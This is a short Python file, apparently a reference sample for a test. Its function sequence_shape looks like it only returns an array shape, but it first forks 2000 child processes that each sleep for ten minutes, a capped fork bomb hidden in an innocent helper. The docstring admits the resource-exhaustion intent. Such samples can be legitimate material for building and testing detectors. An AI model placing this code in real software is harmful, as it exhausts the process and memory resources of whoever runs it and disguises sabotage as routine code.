# base: reference
"""Resources: fork until the system says no (bounded at 2000 here, so a test cannot run away)."""
import os
import time


def sequence_shape(n_samples, steps, features):
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    return (n_samples, steps, features)
